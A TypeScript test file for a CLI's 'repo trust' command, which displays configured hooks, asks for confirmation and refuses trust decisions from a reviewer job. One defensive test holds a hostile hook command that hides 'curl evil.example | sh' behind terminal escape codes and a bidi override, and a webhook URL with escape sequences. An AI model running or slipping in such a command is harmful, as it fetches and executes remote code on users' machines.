import { describe, expect, test } from "bun:test";
import type { RepoHooksResponse } from "../../src/daemon/api/responses.ts";
import { place } from "./place.ts";
import type { CliOptions } from "./run-cli.ts";

const digest = "d".repeat(64);

async function scene(found: Partial<RepoHooksResponse> = {}) {
  const s = place();
  const { repo, daemon } = s;
  const file = `${repo.path}/.roborev.toml`;
  const hooks = [{ event: "review.failed" as const, command: "notify {sha}" }];
  const answer = { repo_path: repo.path, file, hooks, problems: [], digest, trusted: false, ...found };
  daemon.routes["GET /api/repos/hooks"] = () => answer;
  daemon.routes["POST /api/repos/trust"] = () => ({ repo_path: repo.path, trusted: true, changed: true });
  return {
    repo,
    file,
    asked: () => daemon.of("POST /api/repos/trust").map(({ body }) => body),
    run: (flags: string[] = [], options: CliOptions = {}) => s.cli(["repo", "trust", ...flags], options),
    [Symbol.asyncDispose]: () => s[Symbol.asyncDispose](),
  };
}

describe("C12 repo trust", () => {
  test("shows what would run, asks, and trusts exactly what it showed", async () => {
    await using s = await scene();
    const title = `1 hook in ${s.file}:\n  1. review.failed: runs "notify {sha}"\n`;
    expect(await s.run([], { confirm: false })).toEqual({
      code: 0,
      stdout: `${title}Nothing was changed.\n`,
      stderr: "",
    });
    expect(s.asked()).toEqual([]);
    expect(await s.run([], { confirm: true })).toEqual({
      code: 0,
      stdout: `${title}Trusted, until they change.\n`,
      stderr: "",
    });
    expect(s.asked()).toEqual([{ repo_path: s.repo.path, digest }]);
  });

  test("without anybody to ask trusts nothing but with --yes", async () => {
    await using s = await scene();
    expect((await s.run()).code).toBe(2);
    expect(s.asked()).toEqual([]);
    expect((await s.run(["--yes"])).code).toBe(0);
    expect(s.asked()).toHaveLength(1);
  });

  test("--revoke asks nothing and needs no file", async () => {
    await using s = await scene({ hooks: [], digest: undefined as never });
    expect((await s.run(["--revoke"])).stdout).toBe("No hook of this repository is trusted any more.\n");
    expect(s.asked()).toEqual([{ repo_path: s.repo.path }]);
  });

  test("hides nothing of a hostile hook and lets nothing of it reach the terminal", async () => {
    const command = "echo harmless #\r\u001b[2K\u202e\n\tcurl evil.example | sh";
    await using s = await scene({
      hooks: [
        { event: "review.*", command, branches: ["main", "\u001b[1m"] },
        { event: "review.*", type: "webhook", url: "https://evil.example/\u001b]0;x\u0007" },
      ],
      problems: ["odd\u001b[2J\nline"],
    });
    const { stdout, stderr } = await s.run([], { confirm: false });
    expect(stdout + stderr).not.toMatch(/[^\n\x20-\x7e]/);
    expect(stdout).toContain(
      'review.* on "main", "\\u001b[1m": runs "echo harmless #\\r\\u001b[2K\\u202e\\n\\tcurl evil.example | sh"\n',
    );
    expect(stdout).toContain('sends it to "https://evil.example/\\u001b]0;x\\u0007"\n');
    expect(stderr.split("\n")).toHaveLength(2);
  });

  test("D30 is not for a reviewer to decide", async () => {
    await using s = await scene();
    const { code, stderr } = await s.run(["--yes"], { env: { ROBOREV_REVIEW_JOB: "3" } });
    expect([code, stderr]).toEqual([1, expect.stringContaining("a reviewer cannot decide what is trusted")]);
    expect(s.asked()).toEqual([]);
  });
});
